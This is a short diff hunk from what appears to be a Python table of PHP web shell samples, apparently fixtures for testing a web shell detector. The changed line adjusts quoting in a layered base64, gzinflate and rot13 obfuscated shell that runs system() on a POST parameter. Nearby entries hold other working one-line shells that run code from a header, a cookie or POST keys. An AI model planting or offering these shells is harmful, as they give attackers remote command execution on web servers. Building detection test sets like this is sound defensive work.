@@ -214,7 +214,7 @@ die();
     "generic_php_multilayer.php":
         "<?php\neval(base64_decode('%s'));\n" % b64(
             "eval(gzinflate(base64_decode('%s')));" % deflate_b64(
-                "eval(str_rot13('%s'));" % rot13("system($_POST['c']);"))),
+                "eval(str_rot13('%s'));" % rot13('system($_POST["c"]);'))),
     "generic_php_getallheaders.php": "<?php\n$h = getallheaders();\neval($h['X-Run']);\n",
     "generic_php_passthru_cookie.php": "<?php\n$c = $_COOKIE['c'];\npassthru($c);\n",
     "generic_php_foreach.php": "<?php\nforeach ($_POST as $k => $v) { $k($v); }\n",
